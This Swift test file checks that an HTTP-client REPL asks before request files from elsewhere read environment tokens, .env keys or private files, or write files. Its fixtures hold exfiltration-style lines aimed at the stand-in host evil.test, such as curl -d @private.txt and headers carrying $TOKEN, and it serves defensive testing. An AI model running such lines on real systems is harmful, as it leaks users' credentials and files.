import ApusClient
import ApusFolderTestSupport
import ApusPacingTestSupport
import ApusReplTestSupport
import Testing

@testable import ApusRepl
@testable import ApusSurroundings

/// What a file of requests from elsewhere gets of this machine: nothing, without being asked about.
@Suite("Requests of a file from elsewhere", .paced)
struct ForeignRequestsTests {
  private static let place = "http://evil.test"

  private static func postman(_ path: String) -> String {
    """
    {"info": {"name": "x",
      "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
     "item": [
      {"name": "first", "request": {"method": "GET", "url": "\(place)/first"}},
      {"name": "second", "request": {"method": "POST", "url": "\(place)/second", "body": {
        "mode": "formdata", "formdata": [{"key": "f", "type": "file", "src": "\(path)"}]}}}]}
    """
  }

  /// Ways to something of this machine. `OUT` is a folder above the file's own.
  private static let ways: [(name: String, text: String, wish: String)] = [
    ("x.http", "GET PLACE/second?a={{$processEnv TOKEN}}", "use the environment's TOKEN"),
    ("x.http", "@t = {{$env.TOKEN}}\nPOST PLACE/second\n\na={{t}}", "use the environment's TOKEN"),
    ("x.http", "POST PLACE/second\n\n< OUT/private.txt", "read OUT/private.txt"),
    ("x.http", "POST PLACE/second\n\n<@ ../private.txt", "/../private.txt"),
    ("x.http", "POST PLACE/second\n\n< link", "/link"),
    ("x.http", "GET PLACE/second\nX-Key: {{$dotenv KEY}}", "OUT/.env"),
    (
      "x.http",
      "< {% client.global.set(\"k\", client.global.get(\"$env.TOKEN\")); %}\nGET PLACE/second\nX-Key: {{k}}",
      "use the environment's TOKEN"
    ),
    ("pm.json", postman("OUT/private.txt"), "read OUT/private.txt"),
  ]

  private func run(
    _ name: String, _ text: String, line: String? = nil, base: String? = nil,
    answering answer: @escaping @Sendable (String) -> Bool
  ) async throws -> ForeignFile.Seen {
    let text = text.replacing("PLACE", with: Self.place)
    let file = try await ForeignFile(name, text, base: base ?? "http://h.test", answering: answer)
    return await file.say(line ?? "run w/\(name)")
  }

  private static func withFirst(_ text: String) -> String {
    text.hasPrefix("{") ? text : "GET PLACE/first\n\n###\n\(text)\n"
  }

  @Test("send nothing at all where what they want is refused, as in a script", arguments: ways)
  func refused(_ name: String, _ text: String, _ wish: String) async throws {
    let seen = try await run(name, Self.withFirst(text)) { _ in false }
    let wish = wish.replacing("OUT", with: seen.folder.path)
    #expect(seen.asked.isEmpty && seen.said.code == "cancelled", "\(seen.said.text)")
    #expect(seen.questions.count == 1 && seen.questions[0].contains(wish), "\(seen.questions)")
    let said = seen.said.flat
    #expect(said.contains("w/\(name) goes no further: it wants to "), "\(said)")
    #expect(said.contains("run --trust w/\(name)"), "\(said)")
    #expect(!said.contains(ForeignFile.canary))
  }

  @Test("are asked what they want and who gets it, and send it once both may be", arguments: ways)
  func allowed(_ name: String, _ text: String, _ wish: String) async throws {
    let seen = try await run(name, Self.withFirst(text)) { _ in true }
    #expect(seen.paths == ["/first", "/second"], "\(seen.said.text)")
    let wanted = seen.questions.filter { !$0.contains("send to") }
    #expect(wanted.count == 1 && seen.questions.last?.contains("send to \(Self.place)") == true)
    let away = try await run(name, text.replacing("/first", with: "/second")) { !$0.contains("send to") }
    #expect(away.asked.isEmpty && away.said.flat.contains("it wants to send to \(Self.place)"))
  }

  @Test("are asked nothing with --trust", arguments: ways)
  func trusted(_ name: String, _ text: String, _ wish: String) async throws {
    let seen = try await run(name, text, line: "run --trust w/\(name)") { _ in false }
    #expect(seen.questions.isEmpty && seen.asked.last?.url.path == "/second", "\(seen.said.text)")
  }

  @Test("have what lies beside them and below, and send it to the hosts they name, without a question")
  func beside() async throws {
    let text = """
      POST PLACE/a
      Content-Type: text/plain

      < mine.txt
      ###
      POST http://other.test/b

      <@ ./mine.txt
      ###
      curl -d @w/mine.txt PLACE/c
      """
    let seen = try await run("x.http", text) { _ in false }
    #expect(seen.paths == ["/a", "/b", "/c"], "\(seen.said.text)")
    #expect(seen.questions.isEmpty, "\(seen.questions)")
  }

  @Test("that are not picked want nothing, and the base that a user set needs no question")
  func picked() async throws {
    let requests = ["PLACE/first?{{$processEnv TOKEN}}", "PLACE/second", "/{{$processEnv TOKEN}}"]
    let text = requests.map { "GET \($0)\n" }.joined(separator: "\n###\n")
    let plain = try await run("x.http", text, line: "run w/x.http 2") { _ in false }
    #expect(plain.questions.isEmpty && plain.paths == ["/second"], "\(plain.said.text)")
    let own = try await run("x.http", text, line: "run w/x.http 3") { _ in true }
    #expect(own.questions.count == 1 && own.asked.count == 1, "\(own.questions)")
    let refused = try await run("x.http", text, line: "run w/x.http 1") { _ in false }
    #expect(refused.said.flat.contains("run --trust w/x.http 1"), "\(refused.said.text)")
  }

  @Test(
    "as lines of curl get no variable, no file and no program either",
    arguments: [
      ("curl -d @OUT/private.txt PLACE/", "read "), ("curl -H \"X: $TOKEN\" PLACE/", "environment's TOKEN"),
      ("curl -K OUT/private.txt PLACE/", "read "),
      ("curl --unix-socket OUT/s PLACE/", "send to the socket "), ("curl -o OUT/written PLACE/", "write "),
      ("curl PLACE/ > OUT/written", "write "), ("curl PLACE/ | cat > OUT/written", "with sh"),
    ])
  func curl(_ line: String, _ wish: String) async throws {
    let seen = try await run("x.http", Self.withFirst(line)) { _ in false }
    #expect(seen.questions.count == 1 && seen.questions[0].contains(wish), "\(seen.questions)")
    #expect(seen.said.flat.contains("goes no further"), "\(seen.said.text)")
    #expect(seen.folder.contents(of: "written") == nil && !seen.said.text.contains(ForeignFile.canary))
    // What stands before it in the file has not been sent either.
    #expect(seen.asked.isEmpty, "\(seen.asked.map(\.url))")
  }
}
